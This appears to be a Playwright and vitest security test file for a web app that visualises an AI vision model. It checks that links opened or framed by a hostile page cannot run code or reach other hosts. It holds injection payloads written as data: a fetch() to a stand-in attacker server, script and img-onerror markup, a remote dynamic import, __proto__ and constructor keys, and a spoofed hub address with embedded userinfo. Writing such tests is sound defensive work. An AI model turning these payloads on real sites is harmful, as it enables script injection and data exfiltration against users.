import { createServer, type Server } from 'node:http';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listen } from '#site/server/staticServer.ts';
import { packQuery } from '#site/ui/packed.ts';
import { launchChromium } from '#test/support/chromium.ts';
import type { TestServer } from '#test/support/serve.ts';
import { OFFLINE, serveSite } from './visit.ts';

/** What a hostile page gets: requests by its own code, and marks that the code leaves. */
let stranger: { readonly url: string; readonly asked: string[]; readonly server: Server };
let site: TestServer;
let browser: Browser;

/** A page of another origin; everything that is asked of it is noted, but for the page itself. */
async function openStranger(): Promise<typeof stranger> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const path = request.url ?? '';
    if (path !== '/' && path !== '/favicon.ico') asked.push(path);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>A stranger</title>');
  });
  const port = await listen(server, 0, '127.0.0.1');
  return { url: `http://127.0.0.1:${port}/`, asked, server };
}

beforeAll(async () => {
  [stranger, site] = await Promise.all([openStranger(), serveSite()]);
  browser = await launchChromium('noAdapter', OFFLINE);
});
afterAll(async () => {
  await browser.close();
  await site.close();
  stranger.server.close();
});

/** Leaves a mark in the page or the worker, and tells the stranger. */
const attack = () =>
  `(globalThis.caught = true, fetch('${stranger.url}caught').catch(() => 0), new Function(''))`;
const query = (values: Record<string, string>) => `?${new URLSearchParams(values)}`;
/** Where a model has to run, whichever: the small one is there sooner. */
const model = 'nano';
const code = (path = 'encoder.aifi.output') => ({
  kind: 'code',
  path,
  code: `(value) => (${attack()}, value)`,
});
const cell = () => `const shares = ${attack()}`;
const markup = () =>
  `<img src="${stranger.url}image" onerror="globalThis.caught = true"><script src="${stranger.url}script"></script>`;

/**
 * Links under the site's path, some with several kinds of attack at once: what leaves a mark fails the test
 * whichever it was.
 */
const KINDS: Readonly<Record<string, () => string>> = {
  'edited cells, an exercise, a cell twice, a name in escapes, a heading': () =>
    `aifi/${query({ 'c.toy': 'const shares = []', 'c.attentionRow': cell() })}&c.toy=${encodeURIComponent(cell())}&%63%2E%74oy=${encodeURIComponent(cell())}#heads`,
  'a cell that imports, and cells named __proto__ and constructor': () =>
    `aifi/${query({ 'c.toy': `await import('${stranger.url}script.js')`, 'c.__proto__': cell(), 'c.constructor': cell() })}`,
  'a function of a tensor': () =>
    `aifi/${query({ model, patches: JSON.stringify([code()]) })}`,
  'functions of one and of every tensor among data': () =>
    `aifi/${query({ model, patches: JSON.stringify([{ kind: 'stop', layer: 1 }, code(), code('**'), { kind: 'freeze', query: 1 }]) })}`,
  'a function on the debugger, with a cell and markup': () =>
    `debugger/${query({ model, 'c.toy': cell(), patches: JSON.stringify([code()]), pin: markup(), step: 'encoder.aifi.output' })}`,
  'markup and handlers in steps, views and a scene': () =>
    `aifi/${query({
      step: markup(),
      pin: markup(),
      'v.toy': JSON.stringify(markup()),
      'v.attention': JSON.stringify({
        token: markup(),
        head: markup(),
        onclick: attack(),
        innerHTML: markup(),
        __proto__: { token: markup() },
      }),
      seed: '7',
      edits: JSON.stringify({
        objects: [{ id: 1, category: markup(), x: 1, y: 1, scale: 1, seed: 1 }],
        order: [1],
      }),
    })}`,
  'edited cells and typed code in the short form': () =>
    `aifi/?z=${packQuery(query({ 'c.attentionRow': cell(), patches: JSON.stringify([code()]), host: stranger.url }))}`,
  'another hub, and a model': () =>
    `aifi/${query({ model: 'PekingU/rtdetr_r18vd', host: stranger.url })}`,
  'another hub on the first page': () =>
    query({ model: 'PekingU/rtdetr_r18vd', host: stranger.url }),
  'a hub with a password': () =>
    query({
      model: 'PekingU/rtdetr_r18vd',
      host: stranger.url.replace('//', '//huggingface.co@'),
    }),
  'a model that is an address, and a script as backend': () =>
    query({ model: `${stranger.url}model`, backend: `${stranger.url}x`, truth: markup() }),
  'everything on the first page': () =>
    query({
      model,
      'c.toy': cell(),
      patches: JSON.stringify([code()]),
      threshold: markup(),
    }),
  'everything on the model card': () => `model-card/${query({ 'c.toy': cell() })}`,
  'everything in the gallery': () =>
    `gallery/${query({ 'c.toy': cell(), 'v.toy': markup() })}`,
};

/** Links whose code or address a worker would use; of the others the recorded run shows all. */
const FOR_THE_WORKER = /function|hub|backend|first page/;

/** The model has run, where the page has one: by then all that a link brings would have been used. */
async function untilUsed(page: Page | Frame, mode = 'live'): Promise<void> {
  await page.waitForFunction(
    (mode) => {
      const badge = document.querySelector<HTMLElement>('#badge');
      const cells = [...document.querySelectorAll<HTMLElement>('live-cell')];
      const hasModel = document.querySelector('#stage, live-cell, #debugger') !== null;
      return (
        document.readyState === 'complete' &&
        (!hasModel || badge?.dataset['mode'] === mode) &&
        cells.every(({ dataset }) => dataset['state'] !== 'pending')
      );
    },
    mode,
    { timeout: 90_000 },
  );
}

/** Whether code of the link left its mark in a page or its model's worker. */
async function isCaught(page: Page, frame: Frame = page.mainFrame()): Promise<boolean> {
  const mark = () => Reflect.get(globalThis, 'caught') === true;
  // The threads of WebAssembly wait for work and answer nobody else.
  const models = page.workers().filter((worker) => worker.url().includes('/worker'));
  const marks = [frame.evaluate(mark), ...models.map((worker) => worker.evaluate(mark))];
  return (await Promise.all(marks)).includes(true);
}

async function inContext(body: (context: BrowserContext) => Promise<void>): Promise<void> {
  const context = await browser.newContext({ reducedMotion: 'reduce' });
  try {
    await body(context);
  } finally {
    await context.close();
  }
}

const run = (page: Page | Frame) => page.getByRole('button', { name: 'Run', exact: true });

describe('a page of another origin', () => {
  // One context: what it has loaded once it need not load again.
  let context: BrowserContext;
  let withoutModel: BrowserContext;
  beforeAll(async () => {
    [context, withoutModel] = await Promise.all([
      browser.newContext({ reducedMotion: 'reduce' }),
      browser.newContext({ reducedMotion: 'reduce' }),
    ]);
    await withoutModel.route(/\/worker\.[^/]*\.js$/, (route) => route.abort());
  });
  afterAll(() => Promise.all([context.close(), withoutModel.close()]));

  it.each(Object.entries(KINDS))('that opens %s gets nothing', async (name, link) => {
    stranger.asked.length = 0;
    const hasModel = FOR_THE_WORKER.test(name);
    const within = hasModel ? context : withoutModel;
    const attacker = await within.newPage();
    await attacker.goto(stranger.url);
    const opened = within.waitForEvent('page');
    await attacker.evaluate((url) => void window.open(url), site.url + link());
    const page = await opened;
    await untilUsed(page, hasModel ? 'live' : 'replay');
    expect(await isCaught(page)).toBe(false);
    expect(stranger.asked).toEqual([]);
    await Promise.all([page.close(), attacker.close()]);
  });

  it('that frames them gets nothing, and has no Run to lead a click to', async () => {
    stranger.asked.length = 0;
    for (const [name, link] of Object.entries(KINDS))
      if (/edited cells|of a tensor|another hub,/.test(name))
        await inContext(async (context) => {
          const attacker = await context.newPage();
          await attacker.goto(stranger.url);
          await attacker.setContent(
            `<iframe src="${(site.url + link()).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}" width="1200" height="800"></iframe>`,
          );
          const frame = attacker.frames()[1];
          if (!frame) throw new Error('There is no frame.');
          await untilUsed(frame);
          expect(await isCaught(attacker, frame)).toBe(false);
          expect(await run(frame).count()).toBe(0);
          expect(await frame.getByRole('button', { name: 'Load it' }).count()).toBe(0);
          expect(await frame.getByText(/by itself/).count()).toBeGreaterThan(0);
        });
    expect(stranger.asked).toEqual([]);
  });
});

describe('the reader of a link', () => {
  it('runs its cell and its function with Run, and only then', () =>
    inContext(async (context) => {
      const page = await context.newPage();
      const both = query({ model, 'c.toy': cell(), patches: JSON.stringify([code()]) });
      await page.goto(`${site.url}aifi/${both}`);
      await untilUsed(page);
      expect(await isCaught(page)).toBe(false);
      expect(await page.locator('.codeNotice pre').allTextContents()).toEqual([
        expect.stringContaining(cell()),
        expect.stringContaining(code().code),
      ]);
      await run(page).click();
      await expect
        .poll(() => page.evaluate(() => Reflect.get(window, 'caught') as unknown))
        .toBe(true);
      // The page may ask no other host; the worker, where typed functions run, may.
      await expect.poll(() => stranger.asked).toContain('/caught');
      expect(await page.locator('.codeNotice').isVisible()).toBe(false);
      await page.reload();
      await untilUsed(page);
      expect(await isCaught(page)).toBe(false);
    }));

  it('lets a cell ask no other host', () =>
    inContext(async (context) => {
      stranger.asked.length = 0;
      const page = await context.newPage();
      await page.goto(`${site.url}aifi/`);
      // As a text: the test's own compiler would not leave the import alone.
      const outcome = await page.evaluate(`Promise.allSettled([
        fetch('${stranger.url}fetched'),
        import('${stranger.url}imported.js'),
        new Promise((resolve, reject) => {
          const image = new Image();
          [image.onload, image.onerror, image.src] = [resolve, reject, '${stranger.url}image'];
        }),
        fetch('.', { method: 'HEAD' }),
      ]).then((tries) => tries.map(({ status }) => status))`);
      expect(outcome).toEqual(['rejected', 'rejected', 'rejected', 'fulfilled']);
      expect(stranger.asked).toEqual([]);
    }));

  it('discards it, and the address forgets it', () =>
    inContext(async (context) => {
      const page = await context.newPage();
      await page.goto(`${site.url}aifi/${query({ seed: '7', 'c.toy': cell() })}`);
      await page.getByRole('button', { name: 'Discard' }).click();
      expect(await page.locator('.codeNotice').isVisible()).toBe(false);
      expect(new URL(page.url()).search).toBe('?seed=7');
      await untilUsed(page);
      expect(await isCaught(page)).toBe(false);
    }));

  it('opens the page as it was made with safe, whatever else the link says', () =>
    inContext(async (context) => {
      const page = await context.newPage();
      const link = query({ 'c.toy': cell(), seed: '7', step: 'nonsense', safe: '' });
      await page.goto(`${site.url}aifi/${link}`);
      await untilUsed(page);
      expect(await isCaught(page)).toBe(false);
      expect(await page.locator('.codeNotice').count()).toBe(0);
      expect(await page.locator('#subjectButton').textContent()).not.toContain('Scene 7');
      expect(await page.locator('#messages').textContent()).toMatch(/safe/);
    }));

  it('undoes across chapters what was done to the scene, and sees that it was edited', () =>
    inContext(async (context) => {
      const page = await context.newPage();
      await page.goto(`${site.url}aifi/${query({ model })}`);
      await untilUsed(page);
      const subject = page.locator('#subjectButton');
      const press = async (name: string) => {
        if (!(await page.locator('#picker').isVisible())) await subject.click();
        await page.locator('#picker').getByText(name, { exact: true }).click();
      };
      await press('Noon');
      await expect.poll(() => page.url()).toContain('noon');
      await press('Night');
      await expect.poll(() => page.url()).toContain('night');
      await expect.poll(() => subject.textContent()).toMatch(/Scene \d+, edited/);
      await page.locator('a[rel="next"]').click();
      await page.waitForURL('**/ccff/**');
      await untilUsed(page);
      // By key while the panel is closed, then by its button.
      await page.keyboard.press('Control+z');
      await expect.poll(() => page.url()).toContain('noon');
      await press('Undo');
      await expect.poll(() => new URL(page.url()).searchParams.has('edits')).toBe(false);
      await expect.poll(() => subject.textContent()).not.toMatch(/edited/);
    }));

  it('is told of a link that is too long, and of a tensor that there is not', () =>
    inContext(async (context) => {
      const page = await context.newPage();
      await page.goto(`${site.url}aifi/${query({ model, step: 'encoder.aifi.outputs' })}`);
      await untilUsed(page);
      const missing = page.locator('.transport .missing');
      await expect
        .poll(() => missing.textContent())
        .toMatch(/No tensor is shown as encoder\.aifi\.outputs; .*encoder\.aifi\.output/);
      // Servers refuse such an address; a page may write it.
      await page.goto(`${site.url}aifi/`);
      await page.route('**/aifi/?*', (route) =>
        route.continue({ url: `${site.url}aifi/` }),
      );
      await page.goto(`${site.url}aifi/?c.toy=${'x'.repeat(70_000)}`);
      await expect
        .poll(() => page.locator('#messages').textContent())
        .toMatch(/too long to be read/);
    }));
});
